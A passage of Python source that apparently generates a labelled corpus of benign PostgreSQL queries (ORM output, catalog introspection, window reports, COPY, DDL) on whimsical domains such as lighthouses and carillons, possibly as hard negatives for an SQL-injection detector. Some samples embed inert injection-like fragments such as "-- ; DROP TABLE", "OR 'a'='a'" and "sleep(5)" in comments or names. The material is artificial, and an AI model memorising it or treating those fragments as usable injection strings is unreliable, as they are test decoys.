        return ('SELECT "LampLog"."id" AS "LampLog_id", "LampLog"."logged_at" AS "LampLog_logged_at", "LampLog"."lamp_state" AS "LampLog_lamp_state", "Light"."light_code" AS "Light_light_code" '
                'FROM "lighthouse_lamp_logs" "LampLog" INNER JOIN "lighthouse_lights" "Light" ON "Light"."id"="LampLog"."light_id" WHERE "Light"."light_code" = %s ORDER BY "LampLog"."logged_at" DESC'
                % q(r.choice(["FASTNET", "BISHOP-ROCK", "EDDYSTONE", "SKERRYVORE"])))

    @add("cx11_ent_stops", "complex_orm_generated")
    def _(r):
        return 'SELECT DISTINCT "organ_stops"."id", "organ_stops"."division", "organ_stops"."stop_name", "organ_stops"."pitch_ft" FROM "organ_stops" WHERE "organ_stops"."organ_id" = $1'

    @add("cx11_sqlboiler_lots", "complex_orm_generated")
    def _(r):
        return 'SELECT "tea_lots".* FROM "tea_lots" WHERE ("tea_lots"."auction_no" = %s) AND ("tea_lots"."grade_code" = %s) LIMIT 1;' % (
            q(r.choice(["CTC-2025-19", "KOL-44", "GUW-2024-51"])), q(r.choice(["BOP", "FBOP", "PD", "Dust"])))

    @add("cx11_bun_resurfacing", "complex_orm_generated")
    def _(r):
        return ('SELECT "ice"."id", "ice"."rink", "ice"."resurfaced_at", "ice"."driver" FROM "ice_resurfacing" AS "ice" WHERE (rink = %s) AND ("ice"."deleted_at" IS NULL) ORDER BY "resurfaced_at" DESC LIMIT %d'
                % (q(r.choice(["MAIN", "Curling sheet B", "Practice"])), r.choice([5, 10])))

    @add("cx11_kysely_bales", "complex_orm_generated")
    def _(r):
        return 'select "bale_no", "micron", "yield_pct" from "wool_bales" where "clip_year" = $1 and "micron" <= $2 order by "micron" asc limit $3'

    @add("cx11_objection_logs", "complex_orm_generated")
    def _(r):
        return ('select "geocache_logs".* from "geocache_logs" where "geocache_logs"."gc_code" = %s and "geocache_logs"."log_type" in (%s) order by "logged_at" desc limit %d'
                % (q("GC%X" % r.randint(0x1000, 0xFFFFF)), ", ".join(q(x) for x in r.sample(["found", "dnf", "note", "maintenance", "archive"], r.randint(1, 3))), r.choice([30, 100])))

    @add("cx11_tortoise_flushes", "complex_orm_generated")
    def _(r):
        return 'SELECT "id","room_no","flush_no","kg_picked" FROM "mushroom_flushes" WHERE "room_no"=%d AND "spawn_strain"=%s ORDER BY "flush_no" ASC' % (
            r.randint(1, 20), q(r.choice(["Sylvan A15", "oyster-grey", "shiitake 3782", "lion's mane"])))

    @add("cx11_pony_sheets", "complex_orm_generated")
    def _(r):
        return 'SELECT "s"."id", "s"."sheet_no", "s"."title", "s"."edition"\nFROM "map_sheets" "s"\nWHERE "s"."series" = %s\n  AND "s"."edition" >= %d' % (
            q(r.choice(["Explorer", "Landranger", "Tour", "OL"])), r.randint(1, 12))

    @add("cx11_slick_blasts", "complex_orm_generated")
    def _(r):
        return 'select "blast_no", "charge_kg", "ppv_mm_s" from "blast_records" where ("bench" = %s) and ("fired_at" > %s) order by "fired_at" desc' % (
            q(r.choice(["B-240", "NORTH FACE 3", "B-255"])), q(ts(r)))

    @add("cx11_seaorm_pours", "complex_orm_generated")
    def _(r):
        return ('SELECT "casting_pours"."pour_id", "casting_pours"."alloy", "casting_pours"."pour_temp_c" FROM "casting_pours" WHERE "casting_pours"."alloy" = %s '
                'ORDER BY "casting_pours"."pour_temp_c" DESC LIMIT %d' % (q(r.choice(["LM25", "CuSn10", "LM6", "CC491K"])), r.choice([10, 20])))

    @add("cx11_efcore_tolls", "complex_orm_generated")
    def _(r):
        return ('SELECT t.id, t.plate, t.crossed_at, t.amount_cents FROM bridge_toll_passages AS t WHERE t.plate = %s AND t.crossed_at >= TIMESTAMPTZ %s ORDER BY t.crossed_at DESC'
                % (q(r.choice(["KX21OBR", "DAB1234", "YD70KLM"])), q(ts(r) + "Z")))

    @add("cx11_hasura_bunks", "complex_orm_generated")
    def _(r):
        return ('SELECT coalesce(json_agg("root"), \'[]\') AS "root" FROM (SELECT row_to_json((SELECT "_e" FROM (SELECT "_root.base"."bunk_id" AS "bunk_id", "_root.base"."room" AS "room") AS "_e")) AS "root" '
                'FROM (SELECT * FROM "public"."hut_bunks" WHERE (("public"."hut_bunks"."hut_code") = ((%s)::text)) LIMIT %d) AS "_root.base") AS "_root"'
                % (q(r.choice(HUTS)), r.choice([10, 100])))

    @add("cx11_postgrest_bells", "complex_orm_generated")
    def _(r):
        return ('WITH pgrst_source AS (SELECT "public"."carillon_bells".* FROM "public"."carillon_bells" WHERE "public"."carillon_bells"."tower_code" = %s::unknown LIMIT %d OFFSET 0) '
                "SELECT null::bigint AS total_result_set, pg_catalog.count(_postgrest_t) AS page_total, coalesce(json_agg(_postgrest_t), '[]') AS body, "
                "nullif(current_setting('response.headers', true), '') AS response_headers, nullif(current_setting('response.status', true), '') AS response_status FROM (SELECT * FROM pgrst_source) _postgrest_t"
                % (q(r.choice(TOWERS)), r.choice([20, 50])))

    @add("cx11_gorm_waitlist", "complex_orm_generated")
    def _(r):
        return ('SELECT * FROM "allotment_waitlist" WHERE site_code = %s AND "allotment_waitlist"."deleted_at" IS NULL ORDER BY applied_on LIMIT %d'
                % (q(r.choice(["HILLTOP", "RIVERSIDE-3", "CANAL-SIDE"])), r.choice([10, 100])))

    @add("cx11_eloquent_repairs", "complex_orm_generated")
    def _(r):
        return 'select * from "clock_repairs" where "owner_surname" = %s and "clock_repairs"."deleted_at" is null order by "received_at" desc limit %d' % (
            q(r.choice(["Hargreaves", "Mbeki", "O'Hara", "Nguyen"])), r.choice([15, 50]))

    @add("cx11_ecto_sonde", "complex_orm_generated")
    def _(r):
        return ('SELECT r0."id", r0."station_wmo", r0."launched_at" FROM "radiosonde_launches" AS r0 WHERE (r0."station_wmo" = %s) AND (r0."launched_at" > %s) ORDER BY r0."launched_at" DESC'
                % (q(r.choice(["03808", "72520", "10410", "47646"])), q(ts(r))))

    @add("cx11_jooq_claims", "complex_orm_generated")
    def _(r):
        return ('select "public"."patent_claims"."claim_no", "public"."patent_claims"."claim_text" from "public"."patent_claims" where "public"."patent_claims"."application_no" = %s '
                'order by "public"."patent_claims"."claim_no" asc' % q(r.choice(["GB2404417.3", "EP4120987", "US18/220931"])))

    @add("cx11_diesel_rigging", "complex_orm_generated")
    def _(r):
        return 'SELECT "rigging_checks"."point_code", "rigging_checks"."load_kn" FROM "rigging_checks" WHERE "rigging_checks"."venue" = $1 AND "rigging_checks"."load_kn" > $2'

    @add("cx11_doctrine_outings", "complex_orm_generated")
    def _(r):
        return "SELECT b0_.id AS id_0, b0_.boat_name AS boat_name_1, b0_.out_at AS out_at_2 FROM boat_outings b0_ WHERE b0_.river_flag = %s ORDER BY b0_.out_at DESC LIMIT %d" % (
            q(r.choice(["green", "amber", "red"])), r.choice([10, 30]))

    # ---- introspection by drivers, psql and admin tools
    @add("cx11_introspect", "complex_orm_introspection")
    def _(r):
        t = r.choice(["hut_bunks", "carillon_bells", "bus_fleet", "vine_blocks", "patent_claims", "organ_stops", "tea_lots"])
        return r.choice([
            "SELECT c.oid,\n  n.nspname,\n  c.relname\nFROM pg_catalog.pg_class c\n     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace\nWHERE c.relname OPERATOR(pg_catalog.~) '^(%s)$' COLLATE pg_catalog.default\n  AND pg_catalog.pg_table_is_visible(c.oid)\nORDER BY 2, 3;" % t,
            "SELECT a.attname,\n  pg_catalog.format_type(a.atttypid, a.atttypmod),\n  (SELECT pg_catalog.pg_get_expr(d.adbin, d.adrelid, true)\n   FROM pg_catalog.pg_attrdef d\n   WHERE d.adrelid = a.attrelid AND d.adnum = a.attnum AND a.atthasdef),\n  a.attnotnull,\n  (SELECT c.collname FROM pg_catalog.pg_collation c, pg_catalog.pg_type t\n   WHERE c.oid = a.attcollation AND t.oid = a.atttypid AND a.attcollation <> t.typcollation) AS attcollation,\n  a.attidentity,\n  a.attgenerated\nFROM pg_catalog.pg_attribute a\nWHERE a.attrelid = '%d' AND a.attnum > 0 AND NOT a.attisdropped\nORDER BY a.attnum;" % r.randint(16384, 99999),
            "SELECT c2.relname, i.indisprimary, i.indisunique, i.indisclustered, i.indisvalid, pg_catalog.pg_get_indexdef(i.indexrelid, 0, true),\n  pg_catalog.pg_get_constraintdef(con.oid, true), contype, condeferrable, condeferred, i.indisreplident, c2.reltablespace\nFROM pg_catalog.pg_class c, pg_catalog.pg_class c2, pg_catalog.pg_index i\n  LEFT JOIN pg_catalog.pg_constraint con ON (conrelid = i.indrelid AND conindid = i.indexrelid AND contype IN ('p','u','x'))\nWHERE c.oid = '%d' AND c.oid = i.indrelid AND i.indexrelid = c2.oid\nORDER BY i.indisprimary DESC, c2.relname;" % r.randint(16384, 99999),
            "SELECT n.nspname as \"Schema\",\n  c.relname as \"Name\",\n  CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' THEN 'view' WHEN 'm' THEN 'materialized view' WHEN 'i' THEN 'index' WHEN 'S' THEN 'sequence' WHEN 't' THEN 'TOAST table' WHEN 'f' THEN 'foreign table' WHEN 'p' THEN 'partitioned table' WHEN 'I' THEN 'partitioned index' END as \"Type\",\n  pg_catalog.pg_get_userbyid(c.relowner) as \"Owner\"\nFROM pg_catalog.pg_class c\n     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace\n     LEFT JOIN pg_catalog.pg_am am ON am.oid = c.relam\nWHERE c.relkind IN ('r','p','')\n      AND n.nspname <> 'pg_catalog'\n      AND n.nspname !~ '^pg_toast'\n      AND n.nspname <> 'information_schema'\n  AND pg_catalog.pg_table_is_visible(c.oid)\nORDER BY 1,2;",
            "SELECT ns.nspname, typ_and_elem_type.*,\n   CASE WHEN typtype IN ('b', 'e', 'p') THEN 0 WHEN typtype = 'r' THEN 1 WHEN typtype = 'd' THEN 2 WHEN typtype = 'c' THEN 3 WHEN typtype = 'a' THEN 4 END AS ord\nFROM (SELECT typ.oid, typnamespace, typname, typrelid, typnotnull, relkind, typelem AS elemoid, CASE WHEN proc.proname='array_recv' THEN 'a' ELSE typ.typtype END AS typtype\n  FROM pg_type AS typ LEFT JOIN pg_class AS cls ON (cls.oid = typ.typrelid) LEFT JOIN pg_proc AS proc ON proc.oid = typ.typreceive) AS typ_and_elem_type\nJOIN pg_namespace AS ns ON (ns.oid = typnamespace)\nWHERE typtype IN ('b', 'r', 'm', 'e', 'd') OR (typtype = 'c' AND relkind='c') OR (typtype = 'p' AND typname IN ('record', 'void', 'unknown'))",
            "SELECT con.conname, pg_catalog.pg_get_constraintdef(con.oid, true) FROM pg_catalog.pg_constraint con WHERE con.conrelid = 'public.%s'::regclass AND con.contype = 'f' ORDER BY 1" % t,
            "SELECT attname, format_type(atttypid, atttypmod) AS type FROM pg_attribute WHERE attrelid = 'public.%s'::regclass AND attnum > 0 AND NOT attisdropped ORDER BY attnum" % t,
            "SELECT pg_catalog.obj_description(c.oid, 'pg_class') FROM pg_catalog.pg_class c WHERE c.relname = '%s' AND c.relnamespace = 'public'::regnamespace" % t,
            "SELECT e.extname AS \"Name\", e.extversion AS \"Version\", n.nspname AS \"Schema\", c.description AS \"Description\"\nFROM pg_catalog.pg_extension e LEFT JOIN pg_catalog.pg_namespace n ON n.oid = e.extnamespace LEFT JOIN pg_catalog.pg_description c ON c.objoid = e.oid AND c.classoid = 'pg_catalog.pg_extension'::pg_catalog.regclass\nORDER BY 1;"])

    # ---- CTE / window reports
    @add("cx11_cte_hut_occupancy", "complex_cte_window")
    def _(r):
        return ("WITH nights AS (SELECT r.bunk_id, generate_series(lower(r.stay), upper(r.stay) - 1, interval '1 day')::date AS night FROM hut_reservations r WHERE r.stay && daterange(%s, %s)) "
                "SELECT b.hut_code, n.night, count(*) AS occupied, round(100.0 * count(*) / max(h.bunk_total), 1) AS pct FROM nights n JOIN hut_bunks b USING (bunk_id) JOIN huts h ON h.hut_code = b.hut_code "
                "GROUP BY b.hut_code, n.night ORDER BY b.hut_code, n.night" % (q(rdate(r, 2024, 2025)), q(rdate(r, 2025, 2026))))

    @add("cx11_window_headway_gaps", "complex_cte_window")
    def _(r):
        return ("SELECT route_no, stop_code, departs_at, departs_at - lag(departs_at) OVER w AS gap, avg(departs_at - lag_dep) OVER (PARTITION BY route_no ORDER BY departs_at ROWS BETWEEN %d PRECEDING AND CURRENT ROW) AS rolling_gap "
                "FROM (SELECT *, lag(departs_at) OVER (PARTITION BY route_no, stop_code ORDER BY departs_at) AS lag_dep FROM timetable_departures WHERE service_day = %d) d "
                "WINDOW w AS (PARTITION BY route_no, stop_code ORDER BY departs_at)" % (r.randint(2, 9), r.randint(1, 7)))

    @add("cx11_window_archery_ntile", "complex_cte_window")
    def _(r):
        return ("SELECT archer_no, total, ntile(4) OVER (ORDER BY total DESC) AS quartile, total - avg(total) OVER () AS vs_mean, percent_rank() OVER (ORDER BY total) "
                "FROM archery_scores WHERE round_name = %s AND shot_on >= %s" % (q(r.choice(["Portsmouth", "York", "WA 720"])), q(rdate(r))))

    @add("cx11_cte_recursive_waitlist", "complex_cte_window")
    def _(r):
        return ("WITH RECURSIVE chain(plot_no, tenant_ref, hop) AS (SELECT plot_no, tenant_ref, 0 FROM allotment_plots WHERE plot_no = %s "
                "UNION ALL SELECT p.plot_no, p.tenant_ref, c.hop + 1 FROM allotment_plots p JOIN plot_swaps s ON s.from_plot = p.plot_no JOIN chain c ON s.to_plot = c.plot_no WHERE c.hop < %d) "
                "SELECT * FROM chain ORDER BY hop" % (q(r.choice(["14A", "7", "22B", "3"])), r.randint(3, 10)))

    @add("cx11_window_frames_temps", "complex_cte_window")
    def _(r):
        return ("SELECT vault_code, logged_at, temp_c, min(temp_c) OVER w AS lo, max(temp_c) OVER w AS hi FROM vault_temperature_log WHERE logged_at > now() - interval '%d days' "
                "WINDOW w AS (PARTITION BY vault_code ORDER BY logged_at RANGE BETWEEN interval '%d hours' PRECEDING AND CURRENT ROW)" % (r.randint(2, 30), r.choice([6, 12, 24])))

    @add("cx11_cte_brix_ready", "complex_cte_window")
    def _(r):
        return ("WITH latest AS (SELECT DISTINCT ON (block_code) block_code, sampled_on, brix FROM brix_samples ORDER BY block_code, sampled_on DESC), "
                "trend AS (SELECT block_code, regr_slope(brix, extract(epoch FROM sampled_on::timestamp) / 86400) AS per_day FROM brix_samples WHERE sampled_on > current_date - %d GROUP BY block_code) "
                "SELECT l.block_code, l.brix, t.per_day, ceil((%.1f - l.brix) / nullif(t.per_day, 0)) AS days_to_pick FROM latest l JOIN trend t USING (block_code) WHERE l.brix < %.1f ORDER BY days_to_pick NULLS LAST"
                % (r.choice([14, 21, 28]), r.uniform(23, 26), r.uniform(23, 26)))

    @add("cx11_window_shearing_running", "complex_cte_window")
    def _(r):
        return ("SELECT run_date, shearer_name, sheep_shorn, sum(sheep_shorn) OVER (PARTITION BY shearer_name ORDER BY run_date ROWS UNBOUNDED PRECEDING) AS season_total, "
                "dense_rank() OVER (PARTITION BY run_date ORDER BY sheep_shorn DESC) AS day_rank FROM shearing_tallies WHERE shed_code = %s" % q(r.choice(["GLENARY-3", "MOUNT-NICHOLAS", "WAIPIATA"])))

    @add("cx11_cte_writable_archive", "complex_cte_window")
    def _(r):
        return ("WITH moved AS (DELETE FROM lighthouse_lamp_logs WHERE logged_at < %s RETURNING *) INSERT INTO lighthouse_lamp_logs_archive SELECT * FROM moved"
                % q(rdate(r, 2019, 2022)))

    @add("cx11_lateral_top3", "complex_cte_window")
    def _(r):
        return ("SELECT d.depot_code, top.fleet_no, top.mileage_km FROM depots d CROSS JOIN LATERAL (SELECT fleet_no, mileage_km FROM bus_fleet f WHERE f.depot_code = d.depot_code "
                "ORDER BY mileage_km DESC LIMIT %d) top WHERE d.region = %s" % (r.randint(2, 5), q(r.choice(["London", "Yorkshire", "Lothian", "North East"]))))

    # ---- union / set-operation reports
    @add("cx11_union_hut_summary", "complex_union_report")
    def _(r):
        h = q(r.choice(HUTS + ["REFUGE D'ARGENTIÈRE"]))
        return ("SELECT 'bunks' AS metric, count(*)::numeric AS value FROM hut_bunks WHERE hut_code = %s UNION ALL SELECT 'booked_tonight', count(*) FROM hut_reservations r JOIN hut_bunks b USING (bunk_id) "
                "WHERE b.hut_code = %s AND r.stay @> current_date UNION ALL SELECT 'gas_left', coalesce(sum(stock), 0) FROM hut_supplies WHERE hut_code = %s AND item = 'gas canister'" % (h, h, h))

    @add("cx11_union_people", "complex_union_report")
    def _(r):
        n = q(r.choice(["Ní%", "O'R%", "Union%", "Select%", "Ad%", "Mo%"]))
        return ("SELECT 'volunteer' AS kind, display_name AS name FROM hospice_volunteers WHERE display_name ILIKE %s UNION SELECT 'archer', full_name FROM archers WHERE full_name ILIKE %s "
                "UNION SELECT 'ringer', name FROM bell_ringers WHERE name ILIKE %s ORDER BY name LIMIT %d" % (n, n, n, r.choice([25, 50])))

    @add("cx11_except_unpaid", "complex_union_report")
    def _(r):
        return ("SELECT application_no FROM patent_renewals WHERE fee_due_on < current_date EXCEPT SELECT application_no FROM renewal_payments WHERE paid_on >= %s ORDER BY 1" % q(rdate(r)))

    @add("cx11_intersect_boats", "complex_union_report")
    def _(r):
        return ("SELECT boat_index FROM lock_queue WHERE lock_no = %d INTERSECT SELECT boat_index FROM canal_licences WHERE expires_on > current_date" % r.randint(1, 80))

    # ---- COPY
    @add("cx11_copy", "complex_copy_stdin")
    def _(r):
        return r.choice([
            "COPY public.seed_accessions (accession_no, taxon, collected_on, viability_pct) FROM stdin;",
            "COPY radiosonde_levels (launch_id, pressure_hpa, temp_c, dewpoint_c) FROM STDIN WITH (FORMAT csv, HEADER true, NULL '')",
            "COPY (SELECT plate, crossed_at, amount_cents FROM bridge_toll_passages WHERE crossed_at::date = %s) TO STDOUT WITH (FORMAT csv, HEADER)" % q(rdate(r)),
            "COPY shearing_tallies (shed_code, run_date, shearer_name, sheep_shorn) FROM STDIN (FORMAT text, DELIMITER '|')",
            "COPY archery_scores FROM STDIN WITH (FORMAT binary)",
            "COPY hut_weather (hut_code, observed_at, wind_kmh, snow_cm) FROM STDIN WITH (FORMAT csv, DELIMITER ';', QUOTE '\"', ENCODING 'UTF8')",
            "COPY public.organ_stops (id, organ_id, division, stop_name, pitch_ft) FROM stdin;",
            "COPY (SELECT * FROM geocache_logs WHERE gc_code = %s) TO STDOUT WITH CSV HEADER FORCE QUOTE log_text" % q("GC%X" % r.randint(0x1000, 0xFFFFF)),
            "COPY tea_plucking_rounds (estate, section_code, plucked_on, kg_green_leaf) FROM STDIN WITH (FORMAT csv, FORCE_NULL (kg_green_leaf))",
            "COPY wool_bales TO STDOUT WITH (FORMAT text, NULL 'NULL')",
            "COPY (SELECT bale_no, micron FROM wool_bales WHERE clip_year = %d ORDER BY micron) TO STDOUT WITH (FORMAT csv)" % r.randint(2015, 2026),
            "COPY hut_reservations (bunk_id, guest_ref, stay) FROM STDIN WITH (FORMAT csv, HEADER true)",
            "COPY (SELECT ring_no, species, found_on FROM ring_recoveries JOIN bird_rings USING (ring_no) WHERE found_on >= %s) TO STDOUT WITH (FORMAT csv, HEADER, DELIMITER E'\\t')" % q(rdate(r)),
            "COPY bell_recitals (tower_code, carillonneur, starts_at) FROM STDIN WITH (FORMAT csv, QUOTE '\"', ESCAPE '\\', NULL '\\N')",
            "COPY (SELECT stop_code, departs_at FROM timetable_departures WHERE route_no = %s) TO STDOUT" % q(r.choice(["N29", "185", "X43", "7A", "N'TOWN-1"]))])

    # ---- batch inserts
    @add("cx11_batch_levels", "complex_batch_insert")
    def _(r):
        lid = r.randint(1, 99999)
        rows = ", ".join("(%d, %d, %.1f, %.1f)" % (lid, p, r.uniform(-60, 25), r.uniform(-70, 15)) for p in sorted(r.sample([1000, 925, 850, 700, 500, 400, 300, 250, 200, 150, 100], r.randint(3, 7)), reverse=True))
        return "INSERT INTO radiosonde_levels (launch_id, pressure_hpa, temp_c, dewpoint_c) VALUES " + rows

    @add("cx11_batch_recital_pieces", "complex_batch_insert")
    def _(r):
        pieces = ["Prelude in D minor", "Danny Boy", "Ring Out, Wild Bells", "Select Variations", "O'Carolan's Concerto", "Union Hymn", "Drop of Water",
                  "Where Corals Lie", "Table Music No. 2", "Null Point", "From the Tower", "Order of Service"]
        rid = r.randint(1, 9999)
        rows = ", ".join("(%d, %d, %s)" % (rid, i + 1, q(p)) for i, p in enumerate(r.sample(pieces, r.randint(3, 6))))
        return "INSERT INTO recital_programme (recital_id, position, piece) VALUES %s ON CONFLICT (recital_id, position) DO UPDATE SET piece = EXCLUDED.piece" % rows

    @add("cx11_batch_select_values", "complex_batch_insert")
    def _(r):
        n = r.randint(2, 5)
        vals = ", ".join("(%s, %d)" % (q("B%d-%s" % (r.randint(1, 30), r.choice(["PINOT", "CHARD", "SYRAH", "RIES"]))), r.randint(1, 30)) for _ in range(n))
        return "INSERT INTO grape_pick_loads (block_code, bins, picked_at) SELECT v.block_code, v.bins, now() FROM (VALUES %s) AS v(block_code, bins) JOIN vine_blocks b USING (block_code)" % vals

    # ---- built-in functions
    @add("cx11_builtins", "complex_builtin_funcs")
    def _(r):
        i = r.randint(1, 99999)
        return r.choice([
            "SELECT to_char(fee_due_on, 'FMDay, DD FMMonth YYYY'), fee_due_on - current_date AS days_left FROM patent_renewals WHERE application_no = %s" % q(r.choice(["GB2404417.3", "EP4120987"])),
            "SELECT regexp_replace(claim_text, '\\s{2,}', ' ', 'g'), regexp_count(claim_text, 'wherein') FROM patent_claims WHERE claim_id = %d" % i,
            "SELECT format('%%s bell, %%s kg, cast %%s', note_name, weight_kg, cast_year) FROM carillon_bells WHERE bell_no = %d" % r.randint(1, 77),
            "SELECT upper(lower(stay) - 1), isempty(stay), stay * daterange(%s, %s) FROM hut_reservations WHERE reservation_id = %d" % (q(rdate(r, 2024, 2024)), q(rdate(r, 2025, 2025)), i),
            "SELECT (pipes_retuned)[1:%d], array_length(pipes_retuned, 1), cardinality(pipes_retuned) FROM organ_tuning_visits WHERE visit_id = %d" % (r.randint(2, 9), i),
            "SELECT ts_headline('english', abstract, to_tsquery('english', %s), 'MaxWords=20') FROM patent_applications WHERE application_id = %d" % (q(r.choice(["battery & anode", "rotor:*", "hinge | latch"])), i),
            "SELECT extract(isodow FROM shot_on), date_trunc('week', shot_on)::date, age(current_date, shot_on) FROM archery_scores WHERE score_id = %d" % i,
            "SELECT justify_interval(sum(passed_at - queued_at)), avg(passed_at - queued_at) FROM canal_lock_passages JOIN lock_queue USING (boat_index) WHERE lock_no = %d" % r.randint(1, 80),
            "SELECT round(avg(micron)::numeric, 2), stddev_samp(micron), percentile_disc(0.9) WITHIN GROUP (ORDER BY micron) FROM wool_bales WHERE clip_year = %d" % r.randint(2019, 2026),
            "SELECT jsonb_path_query_array(soil_profile, '$.layers[*].depth_cm'), soil_profile #>> '{layers,0,texture}' FROM vine_blocks WHERE block_code = %s" % q(r.choice(["B7-PINOT", "NORTH-SLOPE-2"])),
            "SELECT split_part(plate, ' ', 1), translate(plate, ' -', ''), length(regexp_replace(plate, '[^0-9]', '', 'g')) FROM bridge_toll_passages WHERE passage_id = %d" % i,
            "SELECT make_interval(days => %d, hours => %d), now() + make_interval(mins => %d)" % (r.randint(0, 9), r.randint(0, 23), r.randint(1, 300)),
            "SELECT to_char(kg_green_leaf, 'FM999G999D0'), to_char(plucked_on, 'IYYY-\"W\"IW') FROM tea_plucking_rounds WHERE round_id = %d" % i,
            "SELECT array_to_string(crew_ids, ';'), array_position(crew_ids, %d), crew_ids || %d FROM boat_outings WHERE outing_id = %d" % (r.randint(1, 90), r.randint(1, 90), i),
            "SELECT box(point(%.2f, %.2f), point(%.2f, %.2f)) && bbox, area(bbox) FROM map_sheets WHERE sheet_no = %s" % (r.uniform(-5, 0), r.uniform(50, 55), r.uniform(0, 2), r.uniform(55, 58), q(r.choice(["OL7", "124", "OL31"]))),
            "SELECT string_agg(stop_name, ', ' ORDER BY pitch_ft DESC) FILTER (WHERE division = %s) FROM organ_stops WHERE organ_id = %d" % (q(r.choice(["Great", "Swell", "Pedal", "Choir"])), r.randint(1, 200)),
            "SELECT lpad(ring_no, 10, '0'), initcap(species), found_on - ringed_on AS days_at_large FROM ring_recoveries JOIN bird_rings USING (ring_no) WHERE recovery_id = %d" % i,
            "SELECT width_bucket(ppv_mm_s, 0, 50, 10), count(*) FROM blast_records WHERE fired_at > now() - interval '%d months' GROUP BY 1 ORDER BY 1" % r.randint(1, 24),
            "SELECT coalesce(nullif(trim(notes), ''), '(none)'), octet_length(notes) FROM substrate_batches WHERE batch_code = %s" % q("SB-%04d" % r.randint(1, 9999)),
            "SELECT numrange(%d, %d, '[]') @> weight_kg::numeric, upper_inf(numrange(%d, NULL)) FROM carillon_bells WHERE bell_no = %d" % (r.randint(10, 500), r.randint(600, 9000), r.randint(1, 100), r.randint(1, 77)),
            "SELECT E'Hut: %s\\nBunks: %d', U&'Caf\\00E9 at the hut', $note$warden's stores$note$" % (r.choice(HUTS), r.randint(10, 120)),
            "SELECT date_bin(interval '15 minutes', observed_at, timestamp '2000-01-01'), avg(wind_kmh) FROM hut_weather WHERE hut_code = %s GROUP BY 1 ORDER BY 1 DESC LIMIT %d" % (q(r.choice(HUTS)), r.choice([24, 96])),
            "SELECT xmlelement(name bell, xmlattributes(bell_no AS no, note_name AS note), founder) FROM carillon_bells WHERE tower_code = %s" % q(r.choice(TOWERS)),
            "SELECT to_timestamp(%d)::date, to_date(%s, 'DD/MM/YYYY'), to_number('1.234,5', '9G999D9')" % (r.randint(1500000000, 1800000000), q("%02d/%02d/%d" % (r.randint(1, 28), r.randint(1, 12), r.randint(2019, 2026)))),
            "SELECT encode(digest(api_salt || %s, 'sha256'), 'hex') FROM patent_attorney_keys WHERE key_id = %d" % (q(rword(r, 8)), i),
            "SELECT gen_random_uuid(), clock_timestamp() - statement_timestamp(), txid_current_if_assigned()",
            "SELECT weighed_at::date, grams, grams - lag(grams, 1, grams) OVER (ORDER BY weighed_at) FROM raptor_weights WHERE bird_ring = %s ORDER BY weighed_at DESC LIMIT 14" % q(r.choice(["IBR-HH-4471", "UK-88120F"])),
            "SELECT initcap(regexp_replace(customer, '\\s+', ' ', 'g')), concat_ws(' / ', job_no, status) FROM bindery_jobs WHERE job_id = %d" % i])

    # ---- comments and hints
    @add("cx11_comments", "complex_comments_hints")
    def _(r):
        i = r.randint(1, 999999)
        return r.choice([
            "SELECT bunk_id, room FROM hut_bunks WHERE hut_code = %s /*controller='bunks',action='index',framework='django%%3A5.0',db_driver='psycopg'*/" % q(r.choice(HUTS)),
            "/*+ SeqScan(b) */ SELECT count(*) FROM carillon_bells b WHERE cast_year < %d" % r.randint(1600, 1950),
            "/*+ IndexScan(p patent_applications_filed_on_idx) Rows(p #200) */ SELECT application_no FROM patent_applications p WHERE filed_on > %s" % q(rdate(r)),
            "/*+ NestLoop(f d) Leading((d f)) */ SELECT d.depot_code, count(f.fleet_no) FROM depots d JOIN bus_fleet f ON f.depot_code = d.depot_code GROUP BY d.depot_code",
            "-- pgwatch2: table_stats\nSELECT relname, seq_scan, idx_scan, n_live_tup FROM pg_stat_user_tables WHERE relname = %s" % q(r.choice(["hut_bunks", "bus_fleet", "tea_lots"])),
            "SELECT fleet_no FROM bus_fleet WHERE withdrawn_on IS NULL -- TODO: drop the union with the legacy fleet once migrated",
            "SELECT count(*) FROM hut_reservations /* previously: WHERE 1=1 OR stay IS NULL -- see #%d */ WHERE stay @> current_date" % r.randint(100, 9999),
            "SELECT ring_no /* BTO scheme */, species /* latin */ FROM bird_rings WHERE ring_no = %s" % q("GR%05d" % r.randint(0, 99999)),
            "-- report: daily tolls\n-- owner: finance\nSELECT crossed_at::date, sum(amount_cents) FROM bridge_toll_passages WHERE crossed_at >= %s GROUP BY 1 ORDER BY 1" % q(rdate(r)),
            "/* application:HutBookings,controller:reservations,action:create,job:ConfirmStayJob */ SELECT 1 AS one FROM \"hut_reservations\" WHERE \"hut_reservations\".\"guest_ref\" = %s LIMIT 1" % q("ALP-%05d" % r.randint(0, 99999)),
            "SELECT display_name FROM hospice_volunteers WHERE display_name = %s -- a volunteer really is called 'Drop Table'; the form is fine" % q(r.choice(["Drop Table", "Select Nkosi", "Union Jack Adeyemi"])),
            "/* request_id=%s tenant=%d */ UPDATE bell_recitals SET cancelled = true WHERE recital_id = %d" % (rword(r, 16), r.randint(1, 400), i),
            "SELECT /* nested /* comment */ still a comment */ sheet_no FROM map_sheets WHERE sheet_id = %d" % i,
            "SELECT claim_no -- ; DROP TABLE claims (quoted from the examiner's note)\nFROM patent_claims WHERE application_no = %s" % q(r.choice(["GB2404417.3", "EP4120987"])),
            "SELECT seat_label FROM planetarium_seats WHERE dome_code = %s /* OR 'a'='a' was a bug in v1 */ ORDER BY seat_label" % q(r.choice(["DOME-1", "MINI"])),
            "/* pg_stat_statements: queryid=%d */ SELECT rink, max(resurfaced_at) FROM ice_resurfacing GROUP BY rink" % r.randint(-2 ** 62, 2 ** 62),
            "SELECT pour_id FROM casting_pours WHERE alloy = %s; -- sleep(5) here only in the load test, not in prod" % q(r.choice(["LM25", "CuSn10"]))])

    # ---- DDL
    @add("cx11_ddl", "complex_ddl_migration")
    def _(r):
        n = r.randint(1, 999)
        return r.choice([
            "ALTER TABLE hut_reservations ADD CONSTRAINT hut_res_no_double_%d EXCLUDE USING gist (bunk_id WITH =, stay WITH &&)" % n,
            "CREATE INDEX CONCURRENTLY IF NOT EXISTS patent_abstract_tsv_%d ON patent_applications USING gin (abstract_tsv)" % n,
            "ALTER TABLE carillon_bells ADD COLUMN IF NOT EXISTS weight_range numrange GENERATED ALWAYS AS (numrange(weight_kg * 0.98, weight_kg * 1.02)) STORED",
            "CREATE TYPE bow_style_%d AS ENUM ('recurve', 'compound', 'longbow', 'barebow')" % n,
